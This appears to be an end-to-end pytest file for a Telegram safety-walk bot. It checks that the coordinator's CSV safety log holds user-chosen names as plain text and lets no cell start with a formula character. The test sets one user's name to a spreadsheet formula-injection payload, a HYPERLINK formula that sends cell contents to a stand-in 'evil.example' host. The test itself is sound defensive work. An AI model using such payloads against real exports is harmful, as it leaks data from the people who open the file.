"""/log's CSV: names people chose appear in it, and none of them runs as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from bot.fake_telegram.server import UploadedFile
from tests.e2e.conftest import Harness, eventually, night, sign_up, tick

pytestmark = pytest.mark.e2e

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Ana")'


async def test_the_safety_log_csv_never_starts_a_cell_with_a_formula(bot: Harness) -> None:
    ana, bea = await bot.join("Ana", "trained"), await bot.join("Bea", "new")
    done = await bot.ask(ana, f"/name {EVIL}")
    assert done.text.startswith("Done: the team now sees you as")
    await bot.ask(bea, "/name @Bea")
    await sign_up(bot, ana, "Walker")
    await sign_up(bot, bea, "Walker")
    await sign_up(bot, bot.coordinator, "On-call coordinator")
    await tick(bot, night(19))  # the walk starts: the log names the pair
    await ana.wait_for("The walk has started")

    cora = bot.coordinator
    sent = await cora.send("/log 2026-12-02")
    await cora.wait_for("Safety log", after=sent["message_id"])

    async def csv_document() -> UploadedFile | None:
        found = [m for m in cora.messages() if m.kind == "document" and m.file_id]
        if not found:
            return None
        upload = bot.tg.files[found[-1].file_id or ""]
        return upload if isinstance(upload, UploadedFile) else None

    upload = await eventually(csv_document)
    assert upload is not None
    rows = list(csv.reader(io.StringIO(upload.data.decode("utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert any(EVIL in cell for cell in cells), rows  # the name is there, as text
    starts = [cell for cell in cells if cell.lstrip(" ")[:1] in ("=", "+", "-", "@")]
    assert starts == [], starts
